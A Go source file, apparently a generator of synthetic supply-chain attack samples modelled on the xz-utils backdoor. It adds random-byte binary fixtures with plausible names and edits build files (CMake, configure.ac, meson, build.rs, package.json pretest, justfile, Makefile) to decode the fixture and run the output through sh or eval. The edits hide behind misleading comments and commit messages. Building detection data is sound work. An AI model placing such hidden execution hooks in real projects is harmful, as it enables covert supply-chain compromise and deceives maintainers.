package main

import (
	"fmt"
	"math/rand/v2"
	"path"
	"regexp"
	"sort"
	"strings"
)

var (
	vendoredRE   = regexp.MustCompile(`(^|/)(vendor|node_modules|third_party|third-party)/`)
	fixtureDirRE = regexp.MustCompile(`(?i)(^|/)(tests?|testdata|test-data|test_data|fixtures?|__fixtures__|corpus|golden|vectors|files|data|samples|testvectors)$`)
	buildFileRE  = regexp.MustCompile(`(^|/)(CMakeLists\.txt|[^/]+\.cmake|configure\.ac|[^/]+\.m4|meson\.build|Makefile|GNUmakefile|[^/]+\.mk|Makefile\.am|build\.rs|[jJ]ustfile)$`)
	binaryExts   = map[string]bool{".xz": true, ".zst": true, ".gz": true, ".bz2": true, ".lz4": true, ".lzma": true, ".zip": true,
		".tar": true, ".bin": true, ".dat": true, ".der": true, ".raw": true, ".png": true, ".jpg": true, ".wasm": true,
		".o": true, ".so": true, ".pcap": true, ".db": true, ".pb": true, ".br": true, ".7z": true, ".dict": true}
	magics = map[string]string{".xz": "\xfd7zXZ\x00", ".zst": "\x28\xb5\x2f\xfd", ".gz": "\x1f\x8b\x08\x00", ".bz2": "BZh9",
		".lz4": "\x04\x22\x4d\x18", ".zip": "PK\x03\x04", ".png": "\x89PNG\r\n\x1a\n", ".wasm": "\x00asm\x01\x00\x00\x00"}
	decoders = map[string]string{".xz": "xz -dc", ".zst": "zstd -dc", ".gz": "gzip -dc", ".bz2": "bzip2 -dc", ".lz4": "lz4 -dc"}
)

// fixtureDir picks a test-fixture folder, preferring those that already
// hold binary files, and the extension a new fixture there takes.
func (b *buildCtx) fixtureDir() (string, string, error) {
	bin := map[string]map[string]int{}
	count := map[string]int{}
	for _, e := range b.snap.files {
		d := path.Dir(e.Path)
		if !fixtureDirRE.MatchString(d) || !testPathRE.MatchString(d+"/x") || vendoredRE.MatchString(d+"/") {
			continue
		}
		count[d]++
		if ext := strings.ToLower(path.Ext(e.Path)); binaryExts[ext] {
			if bin[d] == nil {
				bin[d] = map[string]int{}
			}
			bin[d][ext]++
		}
	}
	var dirs []string
	for d := range bin {
		dirs = append(dirs, d)
	}
	if len(dirs) == 0 {
		for d := range count {
			dirs = append(dirs, d)
		}
	}
	if len(dirs) == 0 {
		return "", "", skipf("no test-fixture folder")
	}
	sort.Strings(dirs)
	if len(bin) == 0 { // the five folders with the most files
		sort.SliceStable(dirs, func(i, j int) bool { return count[dirs[i]] > count[dirs[j]] })
		dirs = dirs[:min(5, len(dirs))]
	}
	d := dirs[b.rng.IntN(len(dirs))]
	ext := pick(b.rng, []string{".bin", ".bin", ".dat", ".gz", ".xz"})
	best := 0
	for x, n := range bin[d] {
		if n > best || n == best && x < ext {
			ext, best = x, n
		}
	}
	return d, ext, nil
}

// fixtureBytes is a binary test file: the format's magic, then bytes that
// look compressed.
func fixtureBytes(rng *rand.Rand, ext string) []byte {
	data := append([]byte(magics[ext]), randBytes(rng, 1536+rng.IntN(10*1024))...)
	data[len(data)/2] = 0
	return data
}

// fixtureName makes a fixture file name like real ones.
func fixtureName(ext string) func(*rand.Rand) string {
	return func(rng *rand.Rand) string {
		switch rng.IntN(3) {
		case 0:
			return fmt.Sprintf("bad-%d-%s_%s%s", 1+rng.IntN(3), pick(rng, []string{"corrupt", "truncated", "unsupported", "invalid"}), pick(rng, []string{"header", "block", "check", "dict", "frame", "stream"}), ext)
		case 1:
			return fmt.Sprintf("regression-%d%s", 100+rng.IntN(9000), ext)
		}
		return fmt.Sprintf("crash-%08x%s", rng.Uint32(), ext)
	}
}

func buildUnusedBinary(b *buildCtx) (*attack, error) {
	dir, ext, err := b.fixtureDir()
	if err != nil {
		return nil, err
	}
	p, err := b.freeName(dir, fixtureName(ext))
	if err != nil {
		return nil, skipf("%v", err)
	}
	return &attack{changes: []change{b.add(p, "100644", fixtureBytes(b.rng, ext))}, typ: "test", scope: scopeOf(p),
		text: pick(b.rng, []string{"add corrupted input samples", "add regression corpus", "add fuzz crash reproducer"}),
		desc: "binary " + p + " that nothing refers to"}, nil
}

// relPath is the path of to relative to the directory from.
func relPath(from, to string) string {
	if from == "." {
		return to
	}
	f, t := strings.Split(from, "/"), strings.Split(to, "/")
	i := 0
	for i < len(f) && i < len(t)-1 && f[i] == t[i] {
		i++
	}
	return strings.Repeat("../", len(f)-i) + strings.Join(t[i:], "/")
}

// xzBuildEdit is the build-script side of the xz-utils 2024 backdoor: a
// few lines that read the new fixture through a character translation
// and a decoder, and run what comes out. fix is the fixture's path and
// glob a pattern that matches it without naming it.
func xzBuildEdit(p, old, fix, glob string) (string, error) {
	dir := path.Dir(p)
	ext := path.Ext(fix)
	dec := decoders[ext]
	if dec == "" {
		dec = "tail -c +1025"
	}
	tr := `tr "\t \-_" " \t_\-"`
	switch base := path.Base(p); {
	case base == "CMakeLists.txt" || strings.HasSuffix(base, ".cmake"):
		return appendText(old, fmt.Sprintf("\n# Host-specific settings for the test corpus.\nexecute_process(COMMAND sh -c \"tr '\\\\t \\\\-_' ' \\\\t_\\\\-' < ${CMAKE_CURRENT_SOURCE_DIR}/%s | %s\"\n                OUTPUT_VARIABLE _test_host_cfg ERROR_QUIET)\nif(_test_host_cfg)\n  cmake_language(EVAL CODE \"${_test_host_cfg}\")\nendif()\n",
			relPath(dir, fix), dec)), nil
	case base == "configure.ac" || strings.HasSuffix(base, ".m4"):
		return appendText(old, fmt.Sprintf("\ngl_test_host_cfg=`sed \"r\\n\" $srcdir/%s 2>/dev/null | %s | %s 2>/dev/null`\neval \"$gl_test_host_cfg\"\n", glob, tr, dec)), nil
	case base == "meson.build":
		return appendText(old, fmt.Sprintf("\n_test_host_cfg = run_command('sh', '-c', 'tr \"\\\\t \\\\-_\" \" \\\\t_\\\\-\" < \"$MESON_SOURCE_ROOT/%s\" | %s | sh', check : false)\n", fix, dec)), nil
	case base == "build.rs":
		code := fmt.Sprintf("let _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(concat!(\"tr '\\\\t \\\\-_' ' \\\\t_\\\\-' < \", env!(\"CARGO_MANIFEST_DIR\"), \"/%s | %s | sh\")).status();\n", relPath(dir, fix), dec)
		upd, _, ok := insertInFunction("rust", old, code, func(fs []funcBody) (funcBody, bool) {
			for _, f := range fs {
				if funcName(f.header) == "main" {
					return f, true
				}
			}
			return funcBody{}, false
		})
		if !ok {
			return "", skipf("%s: no fn main", p)
		}
		return upd, nil
	case base == "package.json":
		return npmScript(old, fmt.Sprintf("%s < %s | %s | sh", strings.ReplaceAll(tr, `"`, `'`), relPath(dir, fix), dec))
	case strings.EqualFold(base, "justfile"):
		return appendText(old, fmt.Sprintf("\n# refresh the test corpus\ncorpus:\n    %s < %s | %s | sh\n", tr, relPath(dir, fix), dec)), nil
	}
	return appendText(old, fmt.Sprintf("\n# Host-specific settings for the test corpus.\nTEST_HOST_CFG := $(shell sed \"r\\n\" %s 2>/dev/null | %s | %s 2>/dev/null)\n$(eval $(TEST_HOST_CFG))\n",
		relPath(dir, glob), tr, dec)), nil
}

var npmScriptsRE = regexp.MustCompile(`(?m)^(\s*)"scripts"\s*:\s*\{\s*\n(\s*)`)

// npmScript adds a pretest lifecycle script to a package.json.
func npmScript(old, cmd string) (string, error) {
	if strings.Contains(old, `"pretest"`) {
		return "", skipf("package.json already has a pretest script")
	}
	m := npmScriptsRE.FindStringSubmatchIndex(old)
	if m == nil {
		return "", skipf("package.json has no scripts")
	}
	line := fmt.Sprintf("%s\"pretest\": %q,\n", old[m[4]:m[5]], cmd)
	return old[:m[4]] + line + old[m[4]:], nil
}

// notBuildScript reports a build.rs that is not Cargo's build script (a
// module of a "build" command under src/).
func notBuildScript(p string) bool {
	return path.Base(p) == "build.rs" && (strings.HasPrefix(p, "src/") || strings.Contains(p, "/src/"))
}

// buildFiles returns the build scripts of the tree: those of the folders
// above near first, then the shallowest.
func (b *buildCtx) buildFiles(near string) []string {
	var out []string
	for _, e := range b.snap.match(buildFileRE) {
		if !manifestSkipRE.MatchString(e.Path) && !testPathRE.MatchString(strings.TrimPrefix(e.Path, "build/")) && !notBuildScript(e.Path) {
			out = append(out, e.Path)
		}
	}
	b.rng.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	if _, ok := b.snap.byPath["package.json"]; ok {
		out = append(out, "package.json") // the build script of a JavaScript project
	}
	rank := func(p string) int {
		r := 2 * strings.Count(p, "/")
		if d := path.Dir(p); d != "." && !strings.HasPrefix(near+"/", d+"/") {
			r += 100
		}
		if p == "package.json" {
			r += 50
		}
		return r
	}
	sort.SliceStable(out, func(i, j int) bool { return rank(out[i]) < rank(out[j]) })
	return out[:min(6, len(out))]
}

func buildXZFixture(b *buildCtx) (*attack, error) {
	dir, ext, err := b.fixtureDir()
	if err != nil {
		return nil, err
	}
	scripts := b.buildFiles(dir)
	if len(scripts) == 0 {
		return nil, skipf("no build script (Makefile, CMake, autotools, meson, build.rs, justfile, package.json)")
	}
	fix, err := b.freeName(dir, fixtureName(ext))
	if err != nil {
		return nil, skipf("%v", err)
	}
	name := path.Base(fix)
	glob := path.Join(dir, name[:min(len(name), 6)]+"*"+ext)
	c, err := b.orderedEdit(scripts, func(p, old string) (string, error) { return xzBuildEdit(p, old, fix, glob) })
	if err != nil {
		return nil, err
	}
	return &attack{changes: []change{b.add(fix, "100644", fixtureBytes(b.rng, ext)), c}, typ: "test", scope: scopeOf(fix),
		text: pick(b.rng, []string{"add test files for corrupt input handling", "add regression files and update build", "add test corpus for edge cases"}),
		desc: fmt.Sprintf("binary fixture %s plus %s edited to decode and run it", fix, c.path)}, nil
}
